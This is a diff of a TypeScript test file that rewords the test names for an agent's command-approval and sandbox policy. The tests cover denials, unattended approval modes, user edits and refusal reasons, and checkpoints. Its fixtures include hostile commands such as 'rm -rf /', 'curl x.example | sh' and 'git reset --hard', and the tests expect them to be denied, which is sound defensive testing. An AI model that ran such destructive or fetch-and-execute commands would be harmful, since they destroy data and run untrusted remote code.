@@ -40,7 +40,7 @@ async function played(
   };
 }
 
-test("what is denied is not run, whoever answers; what is allowed is", async () => {
+test("a denied call never runs, whoever answers, and an allowed call does", async () => {
   const yes: Approver = { ask: () => Promise.resolve({ runs: true, by: "person", reason: "" }) };
   for (const approver of [unattended("contained"), yes]) {
     const { ran, kinds, refused } = await played(["ls", "rm -rf /", "curl x.example | sh"], { approver });
@@ -55,7 +55,7 @@ test("what is denied is not run, whoever answers; what is allowed is", async () 
   }
 });
 
-test("with nobody there an ask runs only where it is contained, and not at all when asks are refused", async () => {
+test("with nobody there, a call that requires confirmation runs only if it is contained, and never if asks are refused", async () => {
   const commands = ["make", "curl http://x.example"];
   assert.deepEqual((await played(commands, { approver: unattended("contained") })).ran, ["make"]);
   assert.deepEqual((await played(commands, { approver: unattended("refuse") })).ran, []);
@@ -85,7 +85,7 @@ const WANTS_NETWORK: readonly (readonly [command: string, next: string])[] = [
 ];
 
 for (const mode of ["contained", "refuse"] as const)
-  test(`a denial for want of a network names what would grant it, where asks are ${mode}`, async () => {
+  test(`a denial for lack of network names what would grant it, where asks are ${mode}`, async () => {
     for (const [command, next] of WANTS_NETWORK) {
       const { ran, refused, results } = await played([command], { approver: unattended(mode) });
       assert.deepEqual([ran, refused.length], [[], 1], command);
@@ -94,7 +94,7 @@ for (const mode of ["contained", "refuse"] as const)
     }
   });
 
-test("a denial for want of something else names no grant", async () => {
+test("a denial for any other reason names no grant", async () => {
   for (const command of [
     "git reset --hard",
     'rm "$X"',
@@ -107,7 +107,7 @@ test("a denial for want of something else names no grant", async () => {
   }
 });
 
-test("a person's word counts for what is asked", async () => {
+test("a person's answer decides each call that requires confirmation", async () => {
   const asked: string[] = [];
   const approver: Approver = {
     ask: ({ text }) => {
@@ -126,7 +126,7 @@ test("a person's word counts for what is asked", async () => {
   );
 });
 
-test("what is granted with a yes is there before the call, and ends with it where it is for that call", async () => {
+test("a grant given with a yes is in place before the call, and a grant for that call only ends with it", async () => {
   const command = "curl http://x.example";
   const playing = async (term: GrantSaid["for"], fails = false) => {
     const steps: string[] = [];
@@ -159,7 +159,7 @@ test("what is granted with a yes is there before the call, and ends with it wher
   assert.deepEqual(await playing("call", true), failed, "it is not run without");
 });
 
-test("the workspace is kept around what may write, and around nothing else", async () => {
+test("checkpoints are taken around calls that may write, and around no others", async () => {
   const kept: string[] = [];
   const checkpoints: Checkpoints = {
     prepare: () => undefined,
@@ -175,7 +175,7 @@ test("the workspace is kept around what may write, and around nothing else", asy
   assert.deepEqual([ran, kept], [["true 1", "touch a"], ["c1.1"]]);
 });
 
-test("the input of each call is read once, the state it runs in is taken when its turn comes", async () => {
+test("the input of each call is parsed once, and its state is taken when its turn comes", async () => {
   const told: string[] = [];
   const shell = { folder: "/repo" };
   const cd = anyTool({
@@ -212,7 +212,7 @@ test("the input of each call is read once, the state it runs in is taken when it
 
 const hidden = (text: string): string => text.replaceAll("KEY", "[hidden]");
 
-test("the end of a call says why in one line, where more is known than the exit code", async () => {
+test("the end of a call states the reason in one line when more than the exit code is known", async () => {
   const results: Readonly<Record<string, ToolResult>> = {
     well: { kind: "ok", text: "fine" },
     told: { kind: "failed", cause: "memory", text: "words\n[…]", exitCode: 137, reason: "it was too much" },
@@ -245,7 +245,7 @@ test("the end of a call says why in one line, where more is known than the exit 
   ]);
 });
 
-test("the end of a refused call says the reason of the rule", async () => {
+test("the end of a refused call carries the reason of the rule", async () => {
   const shell = anyTool({
     name: "bash",
     description: "",
@@ -276,14 +276,14 @@ const saying = (
   };
 };
 
-test("the model is told a person's reason with their no", async () => {
+test("a no passes the person's reason on to the model", async () => {
   const approver = saying({ make: { word: "use npm test instead" } });
   const { ran, results } = await played(["make"], { approver });
   assert.deepEqual(ran, []);
   assert.match(results[0] ?? "", /^The user said no.*\nThe user's reason: use npm test instead$/m);
 });
 
-test("a command that a person edits is judged anew, and is what is run, recorded and told", async () => {
+test("a command that a person edits is judged again, and the edited form is run, recorded and reported", async () => {
   const approver = saying({ "make all": { edited: "make dist" }, "make dist": { runs: true } });
   const { ran, results, events } = await played(["make all"], { approver });
   assert.deepEqual([approver.asked, ran], [["make all", "make dist"], ["make dist"]]);
@@ -295,14 +295,14 @@ test("a command that a person edits is judged anew, and is what is run, recorded
   );
 });
 
-test("an edit is not let through: what the policy denies stays denied, and what it allows needs no second word", async () => {
+test("an edited command that the policy denies is denied, and one that it allows needs no second confirmation", async () => {
   const approver = saying({ "make a": { edited: "rm -rf /" }, "make b": { edited: "ls" } });
   const { ran, results } = await played(["make a", "make b"], { approver });
   assert.deepEqual([approver.asked, ran], [["make a", "make b"], ["ls"]]);
   assert.match(results[0] ?? "", /^Denied by the policy/);
 });
 
-test("a person is asked with the effects in words", async () => {
+test("the question to a person describes the effects in words", async () => {
   const questions: Question[] = [];
   const approver: Approver = {
     ask: (question) => {
